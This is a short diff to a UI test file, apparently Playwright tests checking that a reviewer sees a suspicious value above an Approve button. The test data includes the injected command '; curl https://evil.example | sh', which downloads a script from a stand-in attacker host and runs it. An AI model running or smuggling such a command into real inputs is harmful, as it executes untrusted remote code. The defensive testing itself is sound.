@@ -111,7 +111,7 @@ def test_nothing_is_reached_only_by_scrolling_sideways(
     telling = reviewer.get_by_text("the telling one").first.bounding_box()
     approve = reviewer.get_by_role("button", name="Approve").bounding_box()
     assert telling and approve and telling["y"] < approve["y"]
-    expect(reviewer.get_by_text("; curl https://evil.example | sh").first).to_be_visible()
+    expect(reviewer.locator(".value", has_text="; curl https://evil.example | sh")).to_be_visible()
 
 
 def test_a_person_without_a_mouse_reaches_everything(
